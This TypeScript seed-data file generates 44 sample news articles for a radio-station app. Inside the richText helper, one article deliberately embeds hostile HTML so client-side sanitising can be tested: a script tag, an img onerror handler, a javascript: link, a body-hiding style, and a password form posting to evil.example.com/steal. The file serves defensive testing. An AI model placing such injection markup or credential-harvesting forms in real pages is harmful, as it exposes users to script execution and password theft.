/**
 * News articles (NewsTeaserDetail) with content blocks. Together they use every block kind of docs/product.md, "Content"; one article
 * carries hostile markup (script, onerror, javascript: link) so client-side sanitising can be tested, and one is
 * a draft visible only through preview.
 */
import { createRandom } from '../util/random';
import { ANCHOR_UNIX, common, HOUR, pad, slugify, STATION_LABEL, words } from './common';
import { PLACES, TOPICS, personName, type Topic } from './names';
import type { SeedRegistry } from './registry';
import type { ContentBlock, ContentItem, StationId } from './types';

const NEWS_COUNT = 44;
export const HOSTILE_NEWS_ID = 'news-0004';
const DRAFT_NEWS_ID = 'news-0044';

const HEADLINES: Record<Topic, string[]> = {
  Politics: words(`
    Council votes on new budget for {place}, Ward committee in {place} calls for a recount,
    Residents of {place} march to the civic centre
  `),
  Business: words(`
    {place} bakery wins national small-business award, Rand firms as fuel prices ease,
    Start-up in {place} raises its first round
  `),
  Traffic: words(`
    Roadworks close lanes near {place} this week, Taxi strike ends after talks in {place},
    New cycle lane opens in {place}
  `),
  Weather: words(`
    Cold front brings rain to {place}, Heatwave warning for {place} this weekend,
    Hail damages cars in {place}
  `),
  Sport: words(`
    {place} club reaches the cup final, Schoolgirl from {place} breaks sprint record,
    Marathon route through {place} announced
  `),
  Entertainment: words(`
    Festival line-up revealed for {place}, Local film shot in {place} premieres,
    Comedy night raises funds in {place}
  `),
  Technology: words(`
    Free Wi-Fi zones expand in {place}, Coding club in {place} wins robotics prize,
    App helps commuters in {place} share lifts
  `),
  Health: words(`
    Clinic in {place} extends opening hours, Blood drive in {place} beats its target,
    Mobile eye-care unit visits {place}
  `),
  Education: words(`
    {place} school opens a new library, Matric study camp returns to {place},
    Bursaries announced for students from {place}
  `),
  Lifestyle: words(`
    Night market returns to {place}, Community garden blooms in {place},
    Heritage walk through {place} this Sunday
  `),
};

const QUOTES = [
  'We did not expect this many people to show up, and we are grateful.',
  'This is a good start, but the work is far from finished.',
  'Everyone in the community had a hand in this.',
  'We will keep asking questions until we get answers.',
];

function richText(place: string, topic: string, hostile: boolean): string {
  const safe =
    `<p>Listeners in <strong>${place}</strong> told us what the change means for them. ` +
    `Read our <a href="/news">latest ${topic.toLowerCase()} coverage</a> or ` +
    `<a href="https://news.example.com/${slugify(topic)}" target="_blank">the background story</a>.</p>` +
    `<ul><li>What happened</li><li>Who is affected</li><li>What happens next</li></ul>` +
    `<ol><li>Call the newsroom</li><li>Send a voice note</li></ol>`;
  if (!hostile) return safe;
  // Deliberately hostile CMS markup: the client must strip all of it (docs/design.md, "Security rules", "Content and API failures").
  return (
    safe +
    `<script>window.__primediaPwned = true</script>` +
    `<img src="/images/does-not-exist.webp" alt="broken" onerror="window.__primediaPwned = true">` +
    `<p><a href="javascript:window.__primediaPwned=true">Click for a prize</a></p>` +
    `<style>body { display: none }</style>` +
    `<form action="https://evil.example.com/steal"><input name="password"></form>`
  );
}

export function buildNews(
  registry: SeedRegistry,
  refs: { videoIds: string[]; embedIds: string[] },
): ContentItem[] {
  const rng = createRandom('news');
  const stations: StationId[] = ['702', 'capetalk', '947', 'kfm'];
  const items: ContentItem[] = [];
  for (let i = 1; i <= NEWS_COUNT; i++) {
    const topic = TOPICS[(i - 1) % TOPICS.length] as Topic;
    const place = rng.pick(PLACES);
    const headline = (rng.pick(HEADLINES[topic]) as string).replace('{place}', place);
    const station = stations[i % 4] as StationId;
    const id = `news-${pad(i)}`;
    const author = personName(i * 5);
    const headerImageId = registry.image(`img-news-${pad(i)}`, `Photo illustration: ${headline}`, station);
    const blocks: ContentBlock[] = [
      { kind: 'richText', markupInput: richText(place, topic, id === HOSTILE_NEWS_ID) },
    ];
    // Rotate the other block kinds so every kind appears many times across the set.
    if (i % 2 === 0) {
      blocks.push({
        kind: 'imageSection',
        title: `Scenes from ${place}`,
        imageId: registry.image(`img-news-${pad(i)}-section`, `Street scene in ${place}`, station),
        description: `${place}, photographed by ${author}.`,
      });
    }
    if (i % 3 === 0)
      blocks.push({
        kind: 'quote',
        title: 'In their words',
        quoteText: rng.pick(QUOTES),
        attribution: personName(i * 11 + 2),
      });
    if (i % 4 === 1)
      blocks.push({
        kind: 'embed',
        title: 'Listen to the interview',
        embedContentId: refs.embedIds[i % refs.embedIds.length] as string,
      });
    if (i % 5 === 2)
      blocks.push({
        kind: 'brightcove',
        title: 'Watch the report',
        linkedDetailId: refs.videoIds[i % refs.videoIds.length] as string,
      });
    blocks.push({
      kind: 'richText',
      markupInput: `<p>${STATION_LABEL[station]} will keep following this story. <em>Updated ${i % 2 === 0 ? 'this morning' : 'overnight'}.</em></p>`,
    });
    items.push({
      ...common({
        _id: id,
        _url: `/news/${topic.toLowerCase()}/${slugify(headline)}-${i}`,
        headline,
        overline: topic,
        teaserOverline: topic,
        subline: `What the news from ${place} means for ${STATION_LABEL[station]} listeners`,
        text: `${headline}. ${author} reports from ${place} on what changed and what happens next.`,
        author,
        badges: i <= 3 ? ['Breaking'] : [],
        tags: ['news', topic.toLowerCase(), slugify(place)],
        topics: [topic],
        station,
        headerImageId,
        imageDescription: `Photo illustration: ${headline}`,
        publishedAt: ANCHOR_UNIX - (i - 1) * 5 * HOUR - rng.int(0, 2 * HOUR),
        premium: i % 10 === 7,
        draft: id === DRAFT_NEWS_ID,
      }),
      typename: 'NewsTeaserDetail',
      blocks,
    });
  }
  return items;
}
